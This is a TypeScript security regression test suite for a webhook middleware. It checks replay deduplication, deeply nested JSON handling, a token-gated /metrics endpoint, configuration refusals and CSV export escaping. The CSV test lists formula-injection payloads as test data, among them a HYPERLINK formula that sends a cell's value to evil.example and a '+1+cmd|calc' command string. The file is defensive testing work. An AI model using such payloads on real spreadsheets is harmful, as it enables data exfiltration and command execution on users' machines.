/**
 * The smaller holes of issue 13, point 6, each reproduced against the real server (free port,
 * real database and queue): unsigned replay identity, deep nesting before authentication, lone
 * surrogates, public /metrics, optional audience, demo mode in the production entry, CSV formulas.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../middleware/src/config.js';
import { startService, type RunningService } from '../../middleware/src/service.js';
import { AppAuthenticator } from '../../middleware/src/http/app-auth.js';
import { consentModule } from '../../middleware/src/consent/consent-module.js';
import { emptyAccessExport, buildExportArchive, type AccessExportData } from '../../middleware/src/requests/access-export.js';
import { createTestDatabase, type TestDatabase } from '../helpers/test-database.js';
import { capturedLogger } from '../helpers/captured-logger.js';
import { testConfig, testEnvironment } from '../helpers/test-config.js';
import { sampleTicketTrigger, signedZendeskHeaders } from '../helpers/webhooks.js';
import { callApi, unzip } from './support.js';

const METRICS_TOKEN = 'metrics-token-for-tests-0123456789abcdef';
const { logger } = capturedLogger();
let service: RunningService;
let database: TestDatabase;
let bare: RunningService;
let bareDatabase: TestDatabase;
let agentSession: string;

beforeAll(async () => {
  database = await createTestDatabase();
  const config = testConfig({ METRICS_TOKEN });
  const auth = new AppAuthenticator({ sessionSecret: config.sessionSecret, publicKey: 'unused', lookupRole: async () => 'agent' });
  agentSession = await auth.issueSession(1_000_002);
  service = await startService(config, { db: database.db, logger, modules: [consentModule(auth)], workers: false });
  bareDatabase = await createTestDatabase();
  bare = await startService(testConfig(), { db: bareDatabase.db, logger, workers: false });
});

afterAll(async () => {
  await service?.stop();
  await database?.drop();
  await bare?.stop();
  await bareDatabase?.drop();
});

async function postZendesk(body: string, headers: Record<string, string>) {
  const res = await fetch(`${service.url}/webhooks/zendesk`, { method: 'POST', body, headers });
  return { status: res.status, json: (await res.json().catch(() => undefined)) as { status?: string; error?: { code: string } } | undefined };
}

/** A valid JSON document whose `x` field nests `depth` arrays. */
const deeplyNested = (prefix: string, depth: number) => `${prefix}"x":${'['.repeat(depth)}${']'.repeat(depth)}}`;

describe('replay identity (C29)', () => {
  it('C29 when a captured delivery is replayed within the tolerance with a new X-Zendesk-Webhook-Invocation-Id, then it is a duplicate and queues nothing', async () => {
    const body = JSON.stringify(sampleTicketTrigger(70_001));
    const signed = signedZendeskHeaders(body);
    const first = await postZendesk(body, { ...signed, 'x-zendesk-webhook-invocation-id': 'original-delivery' });
    expect(first.json?.status).toBe('accepted');
    const replay = await postZendesk(body, { ...signed, 'x-zendesk-webhook-invocation-id': 'forged-new-id' });
    expect(replay.status).toBe(200);
    expect(replay.json?.status).toBe('duplicate');
    const { rows } = await service.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM webhook_inbox WHERE payload->>'ticketId' = '70001' OR subject_ref = 'ticket:70001'`);
    expect(rows[0]!.n).toBe(1);
  });

  it('C29 when the same body is signed at another timestamp, then it is a delivery of its own (the key is the signed content)', async () => {
    const body = JSON.stringify(sampleTicketTrigger(70_002));
    const a = await postZendesk(body, signedZendeskHeaders(body, { timestamp: new Date(Date.now() - 1000).toISOString() }));
    const b = await postZendesk(body, signedZendeskHeaders(body));
    expect([a.json?.status, b.json?.status]).toEqual(['accepted', 'accepted']);
  });
});

describe('deeply nested and malformed text (C29)', () => {
  it('C29 when an unauthenticated app API call carries JSON nested 40,000 deep (under the 100 kB limit), then 401 before the body is parsed, never 500', async () => {
    const res = await callApi(service.url, '/api/v1/consent', { method: 'POST', rawBody: deeplyNested('{', 40_000) });
    expect(res.status).toBe(401);
  });

  it('C29 when an authenticated app API call carries JSON nested 40,000 deep (under the 100 kB limit), then 400 naming the depth, never 500', async () => {
    const res = await callApi(service.url, '/api/v1/consent', { method: 'POST', rawBody: deeplyNested('{', 40_000), session: agentSession });
    expect(res.status).toBe(400);
    expect(res.json.error.message).toContain('nests deeper');
  });

  it('C29 when a signed Zendesk delivery nests 100,000 deep, then 400 malformed_json, never 500', async () => {
    const body = deeplyNested('{"type":"ticket_trigger","ticket":{"id":"70003"},', 100_000);
    const res = await postZendesk(body, signedZendeskHeaders(body));
    expect(res.status).toBe(400);
    expect(res.json?.error?.code).toBe('malformed_json');
  });

  it('C29 when a LiveChat delivery with the right secret nests 100,000 deep, then 400, never 500', async () => {
    const body = deeplyNested(`{"webhook_id":"w1","secret_key":"livechat-secret-for-tests","action":"incoming_chat","payload":{},`, 100_000);
    const res = await fetch(`${service.url}/webhooks/livechat`, { method: 'POST', body, headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(400);
  });

  it('C29 when a signed Zendesk delivery carries a lone surrogate, then it is accepted (never 500, so Zendesk does not retry forever) and stored with U+FFFD', async () => {
    const body = JSON.stringify(sampleTicketTrigger(70_004, { subject: 'broken \ud800 text', ['key\udc00']: 'x' }));
    expect(body).toContain('\\ud800');
    const res = await postZendesk(body, signedZendeskHeaders(body));
    expect(res.status).toBe(200);
    expect(res.json?.status).toBe('accepted');
    const { rows } = await service.db.query<{ payload: string }>(`SELECT payload::text AS payload FROM webhook_inbox WHERE subject_ref = 'ticket:70004'`);
    expect(rows[0]!.payload).toContain('\uFFFD');
  });
});

describe('/metrics', () => {
  it('C29 when METRICS_TOKEN is not configured, then /metrics does not exist (404)', async () => {
    expect((await fetch(`${bare.url}/metrics`)).status).toBe(404);
  });

  it('C29 when METRICS_TOKEN is configured, then /metrics answers 401 without it or with a wrong one, and the metrics with it', async () => {
    expect((await fetch(`${service.url}/metrics`)).status).toBe(401);
    expect((await fetch(`${service.url}/metrics`, { headers: { authorization: 'Bearer wrong-token-wrong-token-wrong' } })).status).toBe(401);
    const ok = await fetch(`${service.url}/metrics`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } });
    expect(ok.status).toBe(200);
    expect(await ok.text()).toContain('# HELP');
  });
});

describe('configuration', () => {
  it('C29 when ZENDESK_APP_AUDIENCE is not set outside the demo, then the configuration is refused naming it', () => {
    expect(() => loadConfig(testEnvironment({ ZENDESK_APP_AUDIENCE: undefined }))).toThrow(/ZENDESK_APP_AUDIENCE/);
  });

  it('C29 when DEMO_MODE=true reaches the production configuration, then it is refused; only the demo entry may allow it', () => {
    expect(() => loadConfig(testEnvironment({ DEMO_MODE: 'true' }))).toThrow(ConfigError);
    expect(loadConfig(testEnvironment({ DEMO_MODE: 'true' }), undefined, { allowDemoMode: true }).demoMode).toBe(true);
  });

  it("C29 when ZENDESK_WEBHOOK_SECRETS holds Zendesk's public test secret, then the configuration is refused", () => {
    expect(() => loadConfig(testEnvironment({ ZENDESK_WEBHOOK_SECRETS: 'dGhpc19zZWNyZXRfaXNfZm9yX3Rlc3Rpbmdfb25seQ==' }))).toThrow(/public test secret/);
  });

  it('C29 when the production entry (main.ts, what npm start runs) is started with DEMO_MODE=true, then it exits 2 without listening', () => {
    const result = spawnSync(process.execPath, ['--import', 'tsx', 'middleware/src/main.ts'], {
      env: { PATH: process.env.PATH ?? '', DEMO_MODE: 'true', PORT: '0', HOST: '127.0.0.1', DATA_DIR: testEnvironment().DATA_DIR },
      encoding: 'utf8',
      timeout: 30_000,
    });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain('DEMO_MODE');
  });
});

describe('access-export CSV (C22, C29)', () => {
  it('C22 when exported text starts like a spreadsheet formula, then the CSV cell is prefixed with a quote and export.json keeps the exact text', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\tlead', '\rlead'];
    const data: AccessExportData = {
      ...emptyAccessExport('req-1', new Date('2026-11-20T10:00:00.000Z')),
      profile: [{ name: hostile[1]!, phone: '+1 555 0100', note: 'plain' }],
      comments: hostile.map((body, i) => ({ id: String(i), body })),
    };
    const files = unzip(await buildExportArchive(data));
    const comments = files.get('comments.csv')!;
    for (const line of comments.split('\n').slice(1).filter(Boolean)) expect(line).toMatch(/^\d+,"?'/);
    expect(comments).not.toMatch(/(^|,)"?[=+\-@]/m);
    expect(files.get('profile.csv')).toContain("'+1 555 0100");
    expect(files.get('profile.csv')).toContain('plain');
    expect(JSON.parse(files.get('export.json')!).comments[0].body).toBe(hostile[0]);
  });
});

describe('the hash helpers the replay test relies on', () => {
  it('when the key is computed from the signed timestamp and body, then it matches what the route stores', async () => {
    const body = JSON.stringify(sampleTicketTrigger(70_005));
    const headers = signedZendeskHeaders(body);
    await postZendesk(body, headers);
    const key = createHash('sha256').update(headers['x-zendesk-webhook-signature-timestamp']).update(body).digest('hex');
    const { rows } = await service.db.query<{ n: number }>('SELECT count(*)::int AS n FROM webhook_inbox WHERE event_key = $1', [key]);
    expect(rows[0]!.n).toBe(1);
  });
});
